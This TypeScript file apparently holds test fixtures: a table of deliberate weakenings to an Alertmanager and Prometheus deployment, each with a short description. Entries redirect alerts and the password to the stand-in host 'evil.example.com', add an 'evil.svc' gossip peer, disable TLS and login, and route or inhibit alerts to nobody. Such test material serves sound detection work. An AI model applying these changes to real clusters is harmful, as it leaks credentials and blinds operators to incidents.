/** Changes of the way of alerts to people. */
import { all, CONTAINER, POD, remove, set, text, type Weakenings } from "../draft";

const ALERTMANAGER = "StatefulSet/alertmanager";
const CONFIG = "ConfigMap/alertmanager-config";

const config = (path: string, value: unknown) => text(CONFIG, "alertmanager.yml", path, value);
const sent = (path: string, value: unknown) => text("ConfigMap/metrics-config", "prometheus.yml", path, value);

const rule = (file: string, path: string, value: unknown) => text("ConfigMap/metrics-rules", file, path, value);

export const ALERTMANAGER_WEAKENINGS: Weakenings = {
  "alerts-elsewhere": [
    "alerts, and the password, go to somebody else",
    sent("alerting/alertmanagers/0/static_configs/0/targets/0", "evil.example.com:9093"),
  ],
  "alerts-unverified": [
    "anybody can take the alerts",
    sent("alerting/alertmanagers/0/tls_config/insecure_skip_verify", true),
  ],
  "alerts-plain": ["the same, and the password", sent("alerting/alertmanagers/0/scheme", "http")],
  "alerts-dropped": [
    "alerts are dropped before they are sent",
    sent("alerting/alert_relabel_configs/+", { source_labels: ["severity"], regex: "critical", action: "drop" }),
  ],
  "no-replica": ["nobody is told", set(ALERTMANAGER, "spec/replicas", 0)],
  "no-alertmanager": ["the same: Prometheus sends alerts to a name that leads nowhere", remove(ALERTMANAGER)],
  "no-peers-service": ["Prometheus finds no replica by name", remove("Service/alertmanager-peers")],
  "default-to-nobody": ["alerts that no route matches are told to nobody", config("route/receiver", "null")],
  "receivers-removed": ["the same", config("receivers", [{ name: "telemetry" }])],
  "secret-in-config": [
    "a secret in a ConfigMap",
    config("receivers/0", { name: "telemetry", slack_configs: [{ send_resolved: true, api_url: "https://hooks" }] }),
  ],
  "mail-in-plain-text": ["mail without encryption", config("receivers/0/email_configs/0/require_tls", false)],
  "muted-by-time": ["alerts are muted at night", config("route/mute_time_intervals", ["night"])],
  "no-web-config": [
    "a page without a login, where anybody silences alerts",
    set(ALERTMANAGER, `${CONTAINER}/args/3`, "--log.level=info"),
  ],
  "open-gossip": [
    "anybody may join, and silence alerts",
    set(ALERTMANAGER, `${CONTAINER}/args/+`, "--cluster.peer=alertmanager.evil.svc:9094"),
  ],
  "reload-scripts": [
    "a template of somebody's",
    set(ALERTMANAGER, `${CONTAINER}/args/0`, "--config.file=/alertmanager/x.yml"),
  ],
  "alertmanager-token": ["a token of the API server", set(ALERTMANAGER, `${POD}/automountServiceAccountToken`, true)],
  "web-secret-keyless": [
    "without TLS and without a login",
    all(
      set("Secret/alertmanager-web", "stringData/web.yml", undefined),
      set("Secret/alertmanager-web", "stringData/tls.key", undefined),
    ),
  ],
  "hidden-by-any": [
    "one alert hides all others",
    config("inhibit_rules/+", {
      source_matchers: ['alertname=~".+"'],
      target_matchers: ['severity=~".+"'],
      equal: ["nothing"],
    }),
  ],
  "hidden-by-watchdog": [
    "no alert is ever sent",
    config("inhibit_rules/+", {
      source_matchers: ['alertname="Watchdog"'],
      target_matchers: ['alertname=~"AgentSilent"'],
      equal: ["k8s_cluster_name"],
    }),
  ],
  "all-to-nobody": ["no alert is sent", config("route/routes/0/matchers", ['alertname=~".+"'])],
  "warnings-to-nobody": [
    "warnings are not sent",
    config("route/routes/+", { receiver: "null", matchers: ['severity="warning"'] }),
  ],
  "receiver-missing": ["Alertmanager does not start", config("route/routes/1/receiver", "gone")],
  "severity-none": ["no route has the alert", rule("agent-alerts.yaml", "groups/0/rules/0/labels/severity", "none")],
  "group-once-a-year": ["alerts come a year late", rule("agent-alerts.yaml", "groups/0/interval", "1y")],
  "recording-of-a-metric": ["a rule writes what pods write", rule("recording.yaml", "groups/0/rules/0/record", "up")],
};
